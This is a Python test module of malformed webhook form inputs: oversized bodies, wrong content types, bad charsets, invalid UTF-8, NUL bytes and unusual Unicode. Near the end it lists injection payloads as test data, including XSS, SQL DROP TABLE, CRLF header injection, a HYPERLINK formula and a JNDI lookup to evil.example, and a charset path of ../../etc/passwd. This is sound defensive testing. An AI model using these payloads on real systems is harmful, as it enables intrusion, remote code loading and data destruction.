"""C: forms with an odd size, type, encoding or text."""

from __future__ import annotations

from tests.support.bad_input.cases import (
    COMPLETED,
    MESSAGING,
    ONE_PICTURE,
    BadRequest,
    Pairs,
    changed,
    encoded,
    signed,
)
from tests.support.bad_input.content_cases import (
    PICTURE,
    bad_message,
    bad_recording,
    message,
    recording,
    unreadable,
)
from tests.support.payloads import signing, twilio

CAP = 1024 * 1024
RTL, ZERO_WIDTH = "\u202egpj.exe", "a\u200bb\u200dc\ufeffd"


def of_size(size: int) -> Pairs:
    """Return a message whose form has exactly `size` bytes."""
    missing = size - len(encoded(changed(Body="")))
    return changed(Body="x" * missing)


def many(count: int) -> Pairs:
    """Return a message with exactly `count` parameters."""
    return ONE_PICTURE + tuple((f"P{n}", "") for n in range(count - len(ONE_PICTURE)))


SIZES = [
    unreadable("C1 a byte over the cap", signed(of_size(CAP + 1)), "body_too_large", 413),
    unreadable("C1 2.5 MB and a byte", signed(of_size(2_621_441)), "body_too_large", 413),
    message("C1 a body of exactly the cap", of_size(CAP)),
    bad_message("C2 1001 parameters", many(1001), "too_many_parameters"),
    bad_message("C2 20 000 parameters", many(20_000), "too_many_parameters"),
    unreadable("C2 only separators", signed(sent=b"&" * 5000), "too_many_parameters"),
    message("C2 exactly 1000 parameters", many(1000)),
    message("C31 a text of a megabyte", changed(Body="\U0001f4f7" * 80_000)),
    message(
        "C32 a name of half a megabyte",
        (*ONE_PICTURE, ("N" * 500_000, "x")),
    ),
]
TYPES = [
    unreadable(f"C{number} {kind or 'no'} type", signed(content_type=kind), "content_type")
    for number, kind in (
        (3, "multipart/form-data; boundary=x"),
        (4, "multipart/form-data"),
        (4, "multipart/form-data; boundary="),
        (5, "text/plain"),
        (5, ""),
        (5, "text/xml"),
        (5, "application/octet-stream"),
        (5, "application/x-www-form-urlencodedx"),
        (5, "x-www-form-urlencoded"),
        (5, "application/json, application/x-www-form-urlencoded"),
        (5, "application/ld+json"),
        (5, "; charset=utf-8"),
        (5, "application/x-www-form-urlencoded\0"),
        (5, "\xff\xfe"),
        (5, "a" * 4000),
    )
]
MULTIPART = b'--x\r\nContent-Disposition: form-data; name="AccountSid"\r\n\r\nAC\r\n--x--\r\n'
MULTIPARTS = [
    unreadable(
        name,
        signed(sent=body, content_type="multipart/form-data; boundary=x"),
        "content_type",
    )
    for name, body in {
        "C3 a whole multipart form": MULTIPART,
        "C4 a multipart form that is cut": MULTIPART[:30],
        "C4 a multipart form without its end": MULTIPART[:-7],
        "C4 a multipart form of another boundary": MULTIPART.replace(b"--x", b"--y"),
    }.items()
]
CHARSETS = [
    BadRequest(
        f"{name} is ignored",
        signed(content_type=f"application/x-www-form-urlencoded{rest}"),
        200,
        media=PICTURE,
    )
    for name, rest in {
        "C6 charset=latin-1": "; charset=latin-1",
        "C6 charset=utf8": "; charset=utf8",
        "C6 charset=utf-16": "; charset=utf-16",
        "C7 charset=nonsense": "; charset=nonsense",
        "C7 a charset that is a path": "; charset=../../etc/passwd",
        "C7 an unfinished parameter": '; charset="',
    }.items()
] + [
    BadRequest(
        f"C5 the type as {kind!r}",
        signed(content_type=kind),
        200,
        media=PICTURE,
    )
    for kind in ("APPLICATION/X-WWW-FORM-URLENCODED", " application/x-www-form-urlencoded ;")
]


def raw(name: str, more: bytes) -> BadRequest:
    """Return a request with these bytes, which are not UTF-8, after a good form."""
    request = signed(sent=encoded(ONE_PICTURE) + b"&Extra=" + more)
    return unreadable(name, request, "invalid_utf8")


NO_UTF8 = [
    raw("C8 an escaped 0xFF", b"%ff"),
    raw("C8 an escaped cut sequence", b"%e2%82"),
    raw("C8 an escaped overlong slash", b"%c0%af"),
    raw("C8 an escaped surrogate", b"%ed%a0%80"),
    raw("C8 an escaped code point over U+10FFFF", b"%f5%80%80%80"),
    raw("C8 an escaped continuation alone", b"%80"),
    raw("C8 an escaped Latin-1 letter", b"caf%E9"),
    raw("C8 a name that is no UTF-8", b"&%ff=1"),
    raw("C9 a raw 0xFF", b"\xff"),
    raw("C9 a raw Latin-1 letter", b"caf\xe9"),
    raw("C9 a raw cut sequence", b"\xf0\x9f\x93"),
    unreadable("C9 a form in UTF-16", signed(sent="AccountSid=1".encode("utf-16")), "invalid_utf8"),
    unreadable("C9 a gzipped form", signed(sent=b"\x1f\x8b\x08\0\0\0\0\0\0\3KLL"), "invalid_utf8"),
    unreadable(
        "C8 a query that is no UTF-8",
        signing.signed_get(f"{twilio.MMS_ONE_PICTURE}&x=%ff", url=MESSAGING),
        "invalid_utf8",
    ),
]
LITERAL = [
    BadRequest(
        f"C8 {text} stays as it is",
        signed((*ONE_PICTURE, ("Odd", text)), sent=encoded(ONE_PICTURE) + f"&Odd={text}".encode()),
        200,
        media=PICTURE,
    )
    for text in ("%", "%zz", "%u0041", "%%", "a=b=c", "a;b", "?x#y", "\u00e9")
]
NULS = [
    message("C10 NUL in the text", changed(Body="a\0b")),
    message("C10 nothing but NUL in the text", changed(Body="\0")),
    message("C10 NUL in the sender", changed(From="+1555\0")),
    message("C10 NUL in the recipient", changed(To="\0")),
    message("C10 NUL in a declared type", changed(MediaContentType0="image/\0jpeg")),
    message("C10 NUL in the profile name", changed(ProfileName="\0\0\0")),
    message("C10 NUL in the count", changed(NumMedia="1\0")),
    message(
        "C10 NUL in the URL", changed(MediaUrl0=f"{twilio.MEDIA_URLS[0]}\0"), ("address_refused",)
    ),
    message("C10 NUL in the advert's URL", changed(ReferralMediaUrl="https://\0/")),
    message("C11 NUL in a name", (*ONE_PICTURE, ("a\0b", "x"))),
    message("C11 a name that is NUL", (*ONE_PICTURE, ("\0", "\0"))),
    message(
        "C11 NUL behind the name of a URL",
        (*changed(MediaUrl0=None), ("MediaUrl0\0", twilio.MEDIA_URLS[0])),
        ("url_missing",),
    ),
    bad_message("C10 NUL in the message SID", changed(MessageSid=f"{twilio.MMS_SID}\0")),
    bad_message("C10 NUL within the message SID", changed(MessageSid=f"MM\0{'1' * 31}")),
    unreadable(
        "C10 NUL in the account SID",
        signed(changed(AccountSid=f"{twilio.ACCOUNT_SID}\0")),
        "account_sid",
        403,
    ),
    bad_recording("C10 NUL in the call SID", changed(COMPLETED, CallSid="\0"), "call_sid"),
    recording("C10 NUL in the duration", changed(COMPLETED, RecordingDuration="1\0")),
    recording("C10 NUL in the status", changed(COMPLETED, RecordingStatus="absent\0")),
]
TEXTS = [
    message(
        f"C13 {name} as text, sender and type",
        changed(Body=text, From=text, MediaContentType0=text),
    )
    for name, text in {
        "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea",
        "a right-to-left override": RTL,
        "zero-width characters": ZERO_WIDTH,
        "a storm of combining marks": "Z" + "\u0300\u0489\u036f" * 3000,
        "U+FFFF": "\uffff\ufffe",
        "U+10FFFF": "\U0010ffff",
        "line separators": "a\u2028b\u2029c\x85d",
        "private use characters": "\ue000\U000f0000",
        "the replacement character": "\ufffd",
        "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x9f",
        "a terminal's escapes": "\x1b[2J\x1b]0;x\x07",
        "a script": '<script>alert(1)</script>"><img src=x onerror=alert(1)>',
        "a template": "{{7*7}} {% debug %} ${7*7} %s %(x)s {0}",
        "SQL": "'; DROP TABLE mediapipe_webhookevent; --",
        "a formula": '=HYPERLINK("http://evil.example")',
        "10 000 quotation marks": "\"'`\\" * 2500,
        "a line of a header": "x\r\nSet-Cookie: a=b\r\n\r\n",
        "a JNDI look-up": "${jndi:ldap://evil.example/a}",
        "200 letters": "\u00e9" * 200,
    }.items()
]
